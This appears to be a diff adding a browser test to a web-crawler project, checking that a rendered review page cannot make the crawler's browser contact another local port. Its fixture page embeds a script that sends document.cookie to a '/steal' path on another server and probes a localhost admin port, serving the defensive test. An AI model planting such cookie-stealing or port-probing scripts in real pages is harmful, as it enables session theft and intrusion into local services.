@@ -5,6 +5,7 @@ local servers on other ports of 127.0.0.1."""
 from __future__ import annotations
 
 import json
+import shutil
 import threading
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
@@ -122,3 +123,42 @@ def test_a_crawl_never_requests_another_port_of_its_host(tmp_path):
     assert any(p.startswith("/r/acme/comments/b/") for p in source_hits)  # own links followed
     runs = {r["source"]: r for r in db["crawl_runs"].rows}
     assert other_url in runs["moved"]["message"]
+
+
+RENDERED_PAGE = """<!doctype html>
+<html><head><meta charset="utf-8"><title>Acme reviews</title>
+<img src="{other}/pixel.gif"><link rel="stylesheet" href="{other}/style.css"></head>
+<body>
+<div itemscope itemtype="https://schema.org/Review">
+  <span itemprop="author" itemscope itemtype="https://schema.org/Person">
+    <span itemprop="name">Dana</span></span>
+  <meta itemprop="datePublished" content="2025-01-05">
+  <p itemprop="reviewBody">Support never answered my ticket.</p>
+</div>
+<script>
+fetch("{other}/steal?cookie=" + document.cookie).catch(() => {{}});
+fetch("http://localhost:{other_port}/admin").catch(() => {{}});
+</script>
+</body></html>
+"""
+
+
+@pytest.mark.browser
+def test_a_rendered_page_cannot_make_the_browser_request_another_port(tmp_path, replay):
+    if shutil.which("chromium") is None:
+        pytest.skip("Debian's chromium is not installed (scripts/install-browser.sh installs it)")
+    other_hits: list[str] = []
+    other, other_url = serve(type("Other", (CountingHandler,), {"hits": other_hits}))
+    root, base = replay
+    page = RENDERED_PAGE.format(other=other_url, other_port=other.server_address[1])
+    (root / "reviews.html").write_text(page, encoding="utf-8")
+    source = {"name": "rendered", "kind": "schema_org", "url": f"{base}/reviews.html",
+              "render": True}  # fmt: skip
+    config = write_config(tmp_path / "g.toml", [source])
+    try:
+        result = groundswell("crawl", "--config", str(config), "--db", str(tmp_path / "g.db"))
+    finally:
+        other.shutdown()
+    assert result.returncode == 0, result.stderr
+    assert other_hits == []
+    assert sqlite_utils.Database(tmp_path / "g.db")["mentions"].count == 1
